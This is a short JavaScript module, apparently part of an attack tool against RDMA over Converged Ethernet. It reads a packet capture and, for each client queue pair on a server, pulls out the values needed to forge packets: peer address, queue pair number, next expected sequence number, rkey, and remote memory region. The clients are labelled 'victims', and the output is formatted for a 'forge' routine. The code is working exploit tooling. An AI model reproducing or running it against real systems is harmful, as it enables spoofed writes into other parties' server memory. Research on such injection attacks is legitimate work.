// What a capture of the clients' device tells about their queue pairs at the server: all that a
// forger could want.
const FILE_HEADER = 24;
const RECORD_HEADER = 16;
const IP_HEADER = 20;
const BTH = IP_HEADER + 8;
const RETH = BTH + 12;
const WRITE_ONLY = 0x0a;
const SMALL_WRITE = 8;

/** The captured IPv4 packets, in order. */
function* packetsOf(capture) {
  for (let at = FILE_HEADER; at + RECORD_HEADER <= capture.length;) {
    const length = capture.readUInt32LE(at + 8);
    yield capture.subarray(at + RECORD_HEADER, at + RECORD_HEADER + length);
    at += RECORD_HEADER + length;
  }
}

const addressAt = (packet, at) => [...packet.subarray(at, at + 4)].join('.');

/**
 * The server's address, and each queue pair there as `forge` wants it: its peer's address, its
 * number, the next packet sequence number that it expects, key, address and bytes of its region.
 * Each client's last request is a WRITE of 8 bytes to the start of its region.
 */
export function victimsIn(capture, regionBytes) {
  const victims = new Map();
  let address;
  for (const packet of packetsOf(capture)) {
    const isLast = packet[BTH] === WRITE_ONLY && packet.readUInt32BE(RETH + 12) === SMALL_WRITE;
    if (!isLast) continue;
    address = addressAt(packet, 16);
    const qpn = packet.readUIntBE(BTH + 5, 3);
    const psn = (packet.readUIntBE(BTH + 9, 3) + 1) % 2 ** 24;
    const region = packet.readBigUInt64BE(RETH);
    const rkey = packet.readUInt32BE(RETH + 8);
    victims.set(qpn, [addressAt(packet, 12), qpn, psn, rkey, region, regionBytes].join(','));
  }
  return { address, victims: [...victims.values()] };
}
